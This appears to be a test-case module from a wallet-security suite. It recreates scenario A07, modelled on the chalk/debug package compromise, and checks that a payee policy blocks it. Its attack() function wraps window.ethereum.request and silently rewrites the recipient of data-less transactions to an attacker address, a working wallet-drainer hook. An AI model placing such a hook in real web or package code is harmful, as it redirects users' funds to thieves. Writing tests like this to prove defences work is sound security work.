// A07, as a hook: a transaction without data is redirected even when it carries no value.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'A07',
  title: 'plain call without data redirected, by a hook on the provider',
  source: 'chalk/debug, 8 September 2025',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  attack(a) {
    const before = window.ethereum.request;
    window.ethereum.request = async function (call) {
      const copy = JSON.parse(JSON.stringify(call));
      const tx = copy.params?.[0];
      if (copy.method === 'eth_sendTransaction' && !tx.data && tx.to) tx.to = a.EVIL;
      return before.call(this, copy);
    };
  },

  async action(a, app) {
    return app.provider.request({
      method: 'eth_sendTransaction',
      params: [{ from: a.USER, to: a.GOOD, value: '0x0' }],
    });
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD) && !reachedWallet(wallet, a.EVIL),
  violation: { surface: 'eip1193', grade: 'tamper' },
};
